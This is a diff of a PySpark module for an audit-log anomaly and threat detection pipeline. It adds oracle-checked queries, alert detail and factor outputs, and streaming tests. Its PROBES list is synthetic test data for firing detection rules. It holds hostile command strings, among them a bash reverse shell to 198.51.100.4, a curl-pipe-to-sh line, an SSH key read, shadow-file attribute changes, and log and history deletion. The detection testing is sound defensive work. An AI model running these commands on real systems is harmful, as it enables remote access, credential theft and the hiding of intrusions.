@@ -14,7 +14,7 @@ from ..operators import baseline, calibrate, evaluate, iforest, report
 from ..operators.alerts import alert_rows, latest, upsert, read_table
 from ..operators.attack import with_techniques
 from ..operators.correlate import slots
-from ..operators.ladders import FEATURE_NAMES, risk_stages
+from ..operators.ladders import FEATURE_NAMES, FLAGS, NAMES, RULE_COLUMNS, apply, risk_stages, technique_terms
 from ..operators.normalize import parsed, scorable
 from ..sources.audit import audit_records
 from ..sources.scan import after_cursor, hash_sample
@@ -22,7 +22,8 @@ from ..sources.scenarios import labelled
 from ..streaming.jobs import SIGNALS, failure_signals, timeline_stream
 from . import detect
 from .oracle import sql
-from .session import prepare, stored
+from .oracle import stage as oracle_stage
+from .session import Folder, prepare, scratch, stored
 
 QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
 ORACLE: dict[str, str] = {}
@@ -47,9 +48,17 @@ def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
 _made: dict[tuple, DataFrame] = {}
 
 
+def written(spark: SparkSession, sf_dir: str) -> tuple:
+    """Name, length and time of the files of `events`: stages of a table that is written anew are made anew."""
+    folder = Folder(spark, sf_dir)
+    at = folder.at("events.parquet")
+    files = [folder.fs.getFileStatus(at)] if folder.fs.getFileStatus(at).isFile() else folder.fs.listStatus(at)
+    return tuple(sorted((f.getPath().getName(), f.getLen(), f.getModificationTime()) for f in files))
+
+
 def once(f):
     def get(spark: SparkSession, sf_dir: str) -> DataFrame:
-        key = (f.__name__, spark.sparkContext.applicationId, sf_dir)
+        key = (f.__name__, spark.sparkContext.applicationId, sf_dir, written(spark, sf_dir))
         if key not in _made:
             prepare(spark)
             _made[key] = stored(f(spark, sf_dir), f.__name__)
@@ -98,6 +107,10 @@ def r6(*names: str):
     return [F.round(n, 6).alias(n) for n in names]
 
 
+def d3(*names: str) -> str:
+    return ", ".join(f"round({n}, 3) AS {n}" for n in names)
+
+
 def d6(*names: str) -> str:
     return ", ".join(f"round({n}, 6) AS {n}" for n in names)
 
@@ -236,7 +249,7 @@ def rarity(spark, sf_dir):
     return featured(spark, sf_dir).select("ordinal", *r6(*(f"rarity_{k}" for k in baseline.READ_KINDS)))
 
 
-_numbers = ("proctitle_len", "exe_depth", "exe_rarity", "hour")
+_numbers = tuple(FEATURE_NAMES)
 
 
 @query(sql("fea", " UNION ALL ".join(f"SELECT '{n}' AS feature, round(avg({n}), 6) AS mean, round(CASE WHEN stddev_pop({n}) = 0 THEN 1 ELSE stddev_pop({n}) END, 6) AS scale FROM fea" for n in _numbers)))
@@ -245,10 +258,11 @@ def scaler_stats(spark, sf_dir):
     return rows.select(F.explode(F.array(*_numbers)).alias("s")).select("s.*")
 
 
-@query("SELECT CAST(i AS INT) AS place, round(q[i + 1], 6) AS value FROM (SELECT quantile_cont(o_totalprice, [0.0, 0.25, 0.5, 0.75, 0.9, 1.0]) AS q FROM orders), range(6) r(i)")
+@query("SELECT CAST(i AS INT) AS place, round(q[i + 1], 6) AS value FROM (SELECT quantile_cont(o_totalprice, [x / 1000.0e0 FOR x IN range(1001)]) AS q FROM orders), range(1001) r(i)")
 def calibration_quantiles(spark, sf_dir):
-    q = table(spark, sf_dir, "orders").agg(F.expr("percentile(o_totalprice, array(0.0, 0.25, 0.5, 0.75, 0.9, 1.0))").alias("q"))
-    return q.select(F.posexplode("q").alias("place", "value")).select("place", F.round("value", 6).alias("value"))
+    """The whole sketch."""
+    cal = calibrate.fit(table(spark, sf_dir, "orders"), "o_totalprice")
+    return spark.createDataFrame([(i, round(q, 6)) for i, q in enumerate(cal.quantiles)], "place int, value double")
 
 
 @query(sql("sco", "SELECT ordinal, raw_score, anomaly_score FROM sco"))
@@ -321,6 +335,67 @@ def explanation_summary(spark, sf_dir):
     return assessed(spark, sf_dir).select("ordinal", "summary")
 
 
+#: Commands that fire the rules which the projection's own ones leave silent: program, command, path, call, record type.
+PROBES = (
+    ("/opt/x/python3", "python3 -c pass", "", "execve", "SYSCALL"),
+    ("/usr/bin/ngrok", "ngrok http 80", "", "execve", "SYSCALL"),
+    ("/usr/bin/ncat", "ncat -l", "", "execve", "SYSCALL"),
+    ("/usr/bin/ping", "ping web1", "", "execve", "SYSCALL"),
+    ("/usr/bin/cat", "cat id_rsa", "/home/u1/.ssh/id_rsa", "openat", "SYSCALL"),
+    ("/usr/sbin/usermod", "usermod -aG wheel u1", "", "execve", "SYSCALL"),
+    ("/usr/bin/tee", "tee unit", "/etc/systemd/system/a.service", "openat", "SYSCALL"),
+    ("/usr/bin/systemctl", "systemctl enable --now a", "", "execve", "SYSCALL"),
+    ("/usr/sbin/insmod", "insmod a.ko", "", "finit_module", "SYSCALL"),
+    ("/usr/bin/rm", "rm .bash_history", "/home/u1/.bash_history", "unlinkat", "SYSCALL"),
+    ("/usr/bin/chattr", "chattr -i shadow", "/etc/shadow", "ioctl", "SYSCALL"),
+    ("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.4/9001 0>&1", "", "execve", "SYSCALL"),
+    ("/usr/sbin/setcap", "setcap cap_net_raw+ep a", "", "execve", "SYSCALL"),
+    ("/usr/bin/wget", "wget -q a", "", "execve", "SYSCALL"),
+    ("/usr/bin/sshpass", "sshpass -e ssh web1", "", "execve", "SYSCALL"),
+    ("/usr/bin/rm", "rm messages", "/var/log/messages", "unlink", "SYSCALL"),
+    ("/usr/sbin/groupadd", "groupadd a", "", "execve", "GRP_MGMT"),
+    ("/usr/sbin/useradd", "useradd a", "", "execve", "ADD_USER"),
+    ("/usr/bin/sudo", "sudo bash", "", "execve", "USER_CMD"),
+    ("/usr/bin/tee", "tee job", "/etc/cron.d/job", "write", "SYSCALL"),
+    ("/usr/bin/gpasswd", "gpasswd -a u1 wheel", "", "execve", "SYSCALL"),
+    ("/usr/sbin/auditctl", "auditctl -D", "", "execve", "SYSCALL"),
+    ("/usr/bin/chmod", "chmod 4755 a", "", "execve", "SYSCALL"),
+    ("/usr/bin/curl", "curl -s http://a/b | sh", "", "execve", "SYSCALL"),
+    ("/usr/bin/nmap", "nmap -sS a", "", "execve", "SYSCALL"),
+)
+
+
+def _probe(which: int) -> str:
+    return "CASE (ordinal // 8) % {n} ".format(n=len(PROBES)) + " ".join(f"WHEN {k} THEN '{p[which]}'" for k, p in enumerate(PROBES)) + " END"
+
+
+def _overlay(div: str) -> list[tuple[str, str]]:
+    """What a probe replaces, over the columns of a normalised event; sessions of one event in three come over ssh."""
+    text = [("exe", 0), ("proctitle", 1), ("path_text", 2), ("action", 3), ("record_type", 4)]
+    out = [(name, _probe(k).replace("//", div)) for name, k in text]
+    out.append(("comm", f"regexp_replace({_probe(0).replace('//', div)}, '^.*/', '')"))
+    out.append(("tty", "CASE WHEN ordinal % 3 = 0 THEN 'ssh' ELSE 'pts0' END"))
+    out.append(("dest_port", "CAST(CASE WHEN ordinal % 7 = 0 THEN 4444 ELSE -1 END AS BIGINT)"))
+    return out
+
+
+_PROBED = ["ordinal", "host", "uid", "euid", "auid", "user_name", "auid_name", "argv_text", "remote_addr", "acct", "success", "dest_ip", "audit_key", "recent_auth_failures", "recent_distinct_ports"]
+_probed_sql = ", ".join([*_PROBED, *(f"{e} AS {n}" for n, e in _overlay("//"))])
+_probe_stages = ",\n".join(
+    [f"pr0 AS (SELECT {_probed_sql} FROM sig)", oracle_stage("pr1", "pr0", NAMES), oracle_stage("pr2", "pr1", FLAGS), oracle_stage("pr3", "pr2", RULE_COLUMNS)]
+    + [f"pr4 AS (SELECT ordinal, unnest([{', '.join(f"{{'id': '{t}', 'conf': {best}}}" for t, best, _ in technique_terms())}]) AS t FROM pr3)"]
+)
+
+
+@query(sql("sig", "SELECT ordinal, t.id AS technique_id, round(CAST(t.conf AS DOUBLE), 2) AS confidence FROM pr4 WHERE t.conf >= 0.35").replace("\nSELECT ordinal, t.id", f",\n{_probe_stages}\nSELECT ordinal, t.id"))
+def technique_probes(spark, sf_dir):
+    """Every rule, on the events with other commands in place of their own."""
+    rows = contextual(spark, sf_dir).select(*_PROBED)
+    rows = apply(rows.selectExpr(*_PROBED, *(f"{e} AS {n}" for n, e in _overlay("div"))), NAMES, FLAGS)
+    tags = with_techniques(rows).select("ordinal", F.explode("mitre").alias("m"))
+    return tags.select("ordinal", "m.technique_id", "m.confidence")
+
+
 # --- alerts ---
 
 _ALERT = "alert_id, event_ts, event_type, host, user_name, audit_name, is_root, process_name, command_line, prediction, risk_score, severity, title"
@@ -331,12 +406,33 @@ def alert_documents(spark, sf_dir):
     return alerts(spark, sf_dir).select(*_ALERT.split(", "), F.col("anomaly_score").cast("double").alias("anomaly_score"))
 
 
+_parts = [n for n, _ in risk_stages()[0]] + ["technique_severity", "technical_severity"]
+_dotted = {n: n.replace("_", ".", 1) if n.startswith(("impact_", "exploit_")) else n for n in _parts}
+
+
+@query(sql("al", f"""SELECT alert_id, CASE WHEN success THEN 'success' ELSE 'failure' END AS outcome, dest_ip AS destination_ip, CASE WHEN dest_port <> -1 THEN dest_port END AS destination_port, remote_addr AS source_ip,
+  CASE WHEN dest_ip IS NOT NULL OR dest_port <> -1 OR remote_addr IS NOT NULL THEN CASE WHEN coalesce(remote_addr <> '', false) THEN 'inbound' ELSE 'outbound' END END AS direction,
+  '1' AS detection_version, 'none' AS model_version, CASE WHEN n % 2 = 1 THEN line END AS log_original, CASE WHEN n % 2 = 0 THEN line END AS log_message, {d3(*_parts)} FROM al"""))
+def alert_details(spark, sf_dir):
+    """The parts of an alert that its list leaves out: outcome, network, versions, the raw record, the risk's components."""
+    rows = alerts(spark, sf_dir)
+    parts = [F.col("components")[_dotted[n]].alias(n) for n in _parts]
+    return rows.select("alert_id", "outcome", "network.destination_ip", "network.destination_port", "network.source_ip", "network.direction", "detection_version", "model_version", "log.log_original", "log.log_message", *parts)
+
+
+_percent = "concat(CAST(floor(round({} * 100, 6) + 0.5) AS INT), '%')".format
+
+
+@query(sql("al", f"""SELECT alert_id, concat_ws('; ', concat('Anomaly confidence: ', {_percent('confidence')}), concat('Anomaly score: ', {_percent('anomaly_score')}), concat('Behaviour rarity: ', rarity_word), concat('Privilege context: ', privilege_phrase),
+  concat('Host: ', host, ' (criticality 0.5)'), CASE WHEN recent_auth_failures > 0 THEN concat('Recent auth failures: ', recent_auth_failures) END, CASE WHEN technique_1 IS NOT NULL THEN concat('MITRE ATT&CK: ', technique_list) END,
+  concat('Risk score: ', risk_score, ' (', upper(severity[1]), severity[2:], ')')) AS factors FROM al"""))
+def alert_factors(spark, sf_dir):
+    return alerts(spark, sf_dir).select("alert_id", F.array_join(F.transform("factors", lambda f: F.concat(f["label"], F.lit(": "), f["value"])), "; ").alias("factors"))
+
+
 @query(sql("al", "SELECT alert_id, scored_at, risk_score FROM al"))
 def alert_upsert(spark, sf_dir):
-    from .session import tempfile, uuid
-
-    base = spark.conf.get("spark.checkpoint.dir", "") or f"file://{tempfile.mkdtemp(prefix='spark-')}"
-    path = f"{base.rstrip('/')}/alert-table-{uuid.uuid4().hex}"
+    path = scratch(spark, "alert-table")
     rows = alerts(spark, sf_dir)
     upsert(path, rows.where("ordinal % 16 = 0").withColumn("risk_score", F.lit(-1)))
     upsert(path, rows)
@@ -404,7 +500,7 @@ def alerts_page(spark, sf_dir):
 _WORDS = r"list_has_any(regexp_extract_all(lower(coalesce({0}, '''')), ''[\p{{L}}\p{{N}}_]+(?:[.''''][\p{{L}}\p{{N}}_]+)*''), [''sudo'', ''nmap'', ''auditd''])".replace("''", "'").format
 
 
-@query(sql("al", f"SELECT {_KEY} FROM al WHERE {_WORDS('summary')} OR {_WORDS('title')} OR {_WORDS('command_line')}".replace("[.'']", "[.'']")))
+@query(sql("al", f"SELECT {_KEY} FROM al WHERE {_WORDS('summary')} OR {_WORDS('title')} OR {_WORDS('command_line')} OR {_WORDS('line')}".replace("[.'']", "[.'']")))
 def alert_search(spark, sf_dir):
     return _key(A.AlertQuery(text="Sudo nmap auditd").run(alerts(spark, sf_dir)))
 
@@ -482,7 +578,7 @@ def alert_get(spark, sf_dir):
     return _key(A.get(rows, wanted))
 
 
-@query(sql("al", "SELECT alert_id AS id, event_ts AS timestamp, host AS hostname, coalesce(user_name, '') AS username, coalesce(process_name, '') AS process, coalesce(command_line, '') AS message, event_type, risk_score, severity, CAST(anomaly_f AS DOUBLE) AS score, prediction = -1 AS is_anomaly FROM al"))
+@query(sql("al", "SELECT alert_id AS id, event_ts AS timestamp, host AS hostname, coalesce(user_name, '') AS username, coalesce(process_name, '') AS process, coalesce(nullif(command_line, ''), line, '') AS message, event_type, risk_score, severity, CAST(anomaly_f AS DOUBLE) AS score, prediction = -1 AS is_anomaly FROM al"))
 def legacy_logs(spark, sf_dir):
     return A.legacy(alerts(spark, sf_dir)).withColumn("score", F.col("score").cast("double"))
 
@@ -601,7 +697,7 @@ def incremental_scan(spark, sf_dir):
     return after_cursor(table(spark, sf_dir, "events"), "2024-01-10 00:00:00", 1000, ordinal="event_id").select("event_id", "ts")
 
 
-@query()
+@query("SELECT event_id, event_type FROM events ORDER BY md5(concat(event_id, ':1337')), event_id LIMIT 500")
 def hash_sampled(spark, sf_dir):
     return hash_sample(table(spark, sf_dir, "events"), 500, 1337, "event_id").select("event_id", "event_type")
 
@@ -631,13 +727,10 @@ def returnflag_terms(spark, sf_dir):
     return report.top_values(table(spark, sf_dir, "lineitem"), "l_returnflag", 10)
 
 
-def _drained(rows: DataFrame, name: str) -> DataFrame:
-    """What the stream gives until its source is read, kept in the folder of spark.checkpoint.dir."""
-    from .session import tempfile, uuid
-
+def _drained(rows: DataFrame, name: str, path: str | None = None) -> DataFrame:
+    """What the stream gives until its source is read, in files. `path`: of an earlier part of the same stream."""
     spark = rows.sparkSession
-    base = spark.conf.get("spark.checkpoint.dir", "") or f"file://{tempfile.mkdtemp(prefix='spark-')}"
-    path = f"{base.rstrip('/')}/{name}-{uuid.uuid4().hex}"
+    path = path or scratch(spark, name)
     q = rows.writeStream.format("parquet").outputMode("append").option("path", path).option("checkpointLocation", f"{path}-checkpoint").trigger(availableNow=True).start()
     q.awaitTermination()
     return spark.read.schema(rows.schema).parquet(path)
@@ -657,3 +750,17 @@ def stream_auth_signals(spark, sf_dir):
     stream = spark.readStream.schema(rows.schema).parquet(folder)
     stream = stream.select("ts", "host", "account", "ordinal", "us", F.col("is_auth_failure").alias("failed"))
     return _drained(failure_signals(stream), "stream_auth_signals").select(*(c.split()[0] for c in SIGNALS.split(", ")))
+
+
+@query(sql("sig", """SELECT host, account, ordinal, us, CASE WHEN n % 3 = 0 THEN recent_auth_failures ELSE early END AS recent_auth_failures
+  FROM (SELECT *, CAST(sum(CASE WHEN n % 3 <> 0 AND is_auth_failure THEN 1 ELSE 0 END) OVER (PARTITION BY host, account ORDER BY us RANGE BETWEEN 600000000 PRECEDING AND CURRENT ROW) AS BIGINT) AS early FROM sig)"""))
+def stream_late_signals(spark, sf_dir):
+    """Each third event arrives after all others: it counts what lies before it, and nothing that lies after."""
+    rows = contextual(spark, sf_dir).select("ts", "host", "account", "ordinal", "us", F.col("is_auth_failure").alias("failed"))
+    folder = scratch(spark, "late-events")
+    late = (F.col("ordinal") / 8) % 3 == 0
+    for part in (rows.where(~late), rows.where(late)):
+        part.write.mode("append").parquet(folder)
+        stream = spark.readStream.schema(rows.schema).parquet(folder)
+        got = _drained(failure_signals(stream, "60 days"), "stream_late_signals", f"{folder}-out")
+    return got.select(*(c.split()[0] for c in SIGNALS.split(", ")))
